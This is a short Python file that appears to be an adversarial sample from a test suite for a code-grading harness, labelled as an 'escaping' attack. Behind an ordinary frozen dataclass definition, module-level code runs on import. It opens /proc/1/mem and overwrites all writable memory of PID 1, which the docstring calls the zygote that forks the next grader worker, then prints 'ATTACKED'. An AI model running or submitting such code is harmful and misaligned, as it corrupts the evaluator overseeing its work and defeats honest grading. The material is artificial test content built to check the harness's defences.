"""Overwrites the heap of the zygote, from which the next criterion's worker is forked, through /proc/1/mem.

Kind: escaping
Honest twin: accepted/frozen_dataclass
Mark: ATTACKED
"""
# mypy: ignore-errors

import os
from dataclasses import dataclass


@dataclass(frozen=True)
class Point:
    x: float
    y: float


try:
    with open("/proc/1/maps") as maps:
        lines = [line for line in maps if " rw-p " in line]
    memory = os.open("/proc/1/mem", os.O_RDWR)
except OSError:
    lines = []
for line in lines:
    first, last = (int(number, 16) for number in line.split()[0].split("-"))
    for start in range(first, last, 1 << 16):
        try:
            os.pwrite(memory, b"\xa5" * min(1 << 16, last - start), start)
        except OSError:
            break
print("ATTACKED")
